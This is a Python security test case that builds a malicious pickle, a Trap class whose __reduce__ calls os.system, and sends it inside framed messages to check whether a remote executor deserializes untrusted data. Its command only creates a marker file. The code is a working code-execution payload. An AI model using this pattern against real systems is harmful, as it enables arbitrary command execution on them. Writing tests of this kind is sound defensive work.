"""A pickle that runs a command when it is loaded: as a frame's text, as an array's data, behind an answer.

Must be observed: a violation, and the file that the command makes is not there.
Source: strop's own list of cases; CVE-2025-14931 was the loading of a pickle that a remote executor had sent.
"""

import os
import pickle
import time

from frames import HEADER, write

CASES = ("text", "array", "behind an answer")
CASE = 0
NUMBERS = (50,)
ROLE = "frames"
CONTROL = "architecture"
OBSERVED = {"outcome": "Violated"}


def attack(targets):
    trap = pickle.dumps(Trap(f"touch {targets['folder']}/marker"))
    array = b'["l",["s",8],["a",%d,"|O","C",1]]' % len(trap)
    answer = b'["l",["s",8],1]'
    frame = (HEADER.pack(len(trap), 0) + trap, framed(array, b"returned" + trap), framed(answer, b"returned" + trap))[
        CASE
    ]
    write(4, frame)
    time.sleep(60)


def framed(document, contents=b"returned"):
    """A frame with a message of this document and these contents."""
    data = len(document).to_bytes(4, "little") + document + contents
    return HEADER.pack(len(data), 0) + data


class Trap:
    def __init__(self, command):
        self._command = command

    def __reduce__(self):
        return os.system, (self._command,)
